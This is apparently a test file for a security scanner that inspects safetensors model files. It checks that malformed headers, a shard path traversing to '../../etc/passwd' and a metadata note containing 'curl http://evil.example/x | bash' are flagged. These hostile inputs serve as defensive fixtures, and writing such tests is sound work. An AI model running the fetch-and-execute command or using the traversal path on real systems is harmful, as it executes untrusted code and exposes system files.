/**
 * safetensors scan hook: every header lie (ST-001, verdict malformed), shard paths of an index
 * (ST-002) and metadata text (META-001), each with a near-miss.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { duplicateJsonKey, scan } from './scan.js';
import { directScan, has, scanFile } from '../../../test/helpers/scan-kit.js';

function st(header: string | object, data: Uint8Array | number = 0, lie?: bigint): Uint8Array {
  const h = new TextEncoder().encode(typeof header === 'string' ? header : JSON.stringify(header));
  const d = typeof data === 'number' ? new Uint8Array(data) : data;
  const out = new Uint8Array(8 + h.length + d.length);
  new DataView(out.buffer).setBigUint64(0, lie ?? BigInt(h.length), true);
  out.set(h, 8);
  out.set(d, 8 + h.length);
  return out;
}
const good = { __metadata__: { format: 'pt' }, a: { dtype: 'F32', shape: [2, 2], data_offsets: [0, 16] }, b: { dtype: 'BF16', shape: [3], data_offsets: [16, 22] } };
const run = (bytes: Uint8Array) => directScan(scan, { 'm.safetensors': bytes }, 'm.safetensors', 'safetensors', 'safetensors');

describe('safetensors scan hook', () => {
  it('near-miss: a well-formed file is benign', async () => {
    const r = await run(st(good, 22));
    assert.equal(r.verdict, 'benign');
    assert.deepEqual(r.all, []);
  });

  it('ST-001: every header lie makes the verdict malformed', async () => {
    const cases: [string, Uint8Array][] = [
      ['length past the file', st(good, 22, 10_000n)],
      ['length above 100 MB', st(good, 22, 200_000_000n)],
      ['not JSON', st('{"a": ', 0)],
      ['not an object', st('[1, 2]', 0)],
      ['duplicate key', st('{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}', 8)],
      ['duplicate key in an entry', st('{"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4], "data_offsets": [0, 4]}}', 4)],
      ['offsets past the data', st({ a: { dtype: 'F32', shape: [4], data_offsets: [0, 16] } }, 8)],
      ['overlapping tensors', st({ a: { dtype: 'F32', shape: [2], data_offsets: [0, 8] }, b: { dtype: 'F32', shape: [2], data_offsets: [4, 12] } }, 12)],
      ['gap', st({ a: { dtype: 'F32', shape: [1], data_offsets: [4, 8] } }, 8)],
      ['trailing bytes', st({ a: { dtype: 'F32', shape: [1], data_offsets: [0, 4] } }, 100)],
      ['dtype × shape ≠ length', st({ a: { dtype: 'F16', shape: [3], data_offsets: [0, 8] } }, 8)],
      ['unknown dtype', st({ a: { dtype: 'Q4', shape: [1], data_offsets: [0, 1] } }, 1)],
      ['negative shape', st({ a: { dtype: 'U8', shape: [-1], data_offsets: [0, 1] } }, 1)],
      ['non-string metadata', st({ __metadata__: { n: 3 }, a: { dtype: 'U8', shape: [1], data_offsets: [0, 1] } }, 1)],
      ['begin after end', st({ a: { dtype: 'U8', shape: [0], data_offsets: [4, 0] } }, 4)],
    ];
    for (const [what, bytes] of cases) {
      const r = await run(bytes);
      assert.equal(r.verdict, 'malformed', `${what}: ${r.all.map((f) => f.evidence).join('; ')}`);
      assert.ok(has(r.all, 'ST-001', 'high'), what);
    }
  });

  it('duplicateJsonKey sees escaped duplicates, not values', () => {
    assert.deepEqual(duplicateJsonKey('{"a": 1, "\\u0061": 2}'), { key: 'a', path: '' });
    assert.equal(duplicateJsonKey('{"a": "a", "b": ["a", "a"], "c": {"a": 1}}'), undefined);
  });

  it('META-001: shell commands in __metadata__ are medium; near-miss: ordinary metadata', async () => {
    const bad = await run(st({ __metadata__: { note: 'run `curl http://evil.example/x | bash` first' }, a: { dtype: 'U8', shape: [1], data_offsets: [0, 1] } }, 1));
    assert.equal(bad.verdict, 'suspicious');
    assert.ok(has(bad.all, 'META-001', 'medium'));
    const ok = await run(st({ __metadata__: { format: 'pt', license: 'apache-2.0' }, a: { dtype: 'U8', shape: [1], data_offsets: [0, 1] } }, 1));
    assert.equal(ok.verdict, 'benign');
  });

  it('ST-002: a sharded index naming shards outside the folder; near-miss: sibling shards (checked too)', async () => {
    const idx = (files: string[]) => JSON.stringify({ metadata: { total_size: 1 }, weight_map: Object.fromEntries(files.map((f, i) => [`w${i}`, f])) });
    const bad = await directScan(scan, { 'model.safetensors.index.json': idx(['../../etc/passwd', 'model-00001.safetensors']) }, 'model.safetensors.index.json', 'safetensors', 'sharded-index');
    assert.ok(has(bad.all, 'ST-002', 'medium'));
    const ok = await directScan(scan, { 'model.safetensors.index.json': idx(['model-00001.safetensors']), 'model-00001.safetensors': st(good, 22) }, 'model.safetensors.index.json', 'safetensors', 'sharded-index');
    assert.equal(ok.verdict, 'benign');
    const broken = await directScan(scan, { 'model.safetensors.index.json': idx(['model-00001.safetensors']), 'model-00001.safetensors': st(good, 10) }, 'model.safetensors.index.json', 'safetensors', 'sharded-index');
    assert.equal(broken.verdict, 'malformed');
  });

  it('end to end: overlapping offsets are reported through scanSource', async () => {
    const r = await scanFile({ 'm.safetensors': st({ a: { dtype: 'F32', shape: [2], data_offsets: [0, 8] }, b: { dtype: 'F32', shape: [2], data_offsets: [4, 12] } }, 12) }, 'm.safetensors');
    assert.equal(r.format?.id, 'safetensors');
    assert.equal(r.verdict, 'malformed');
  });
});
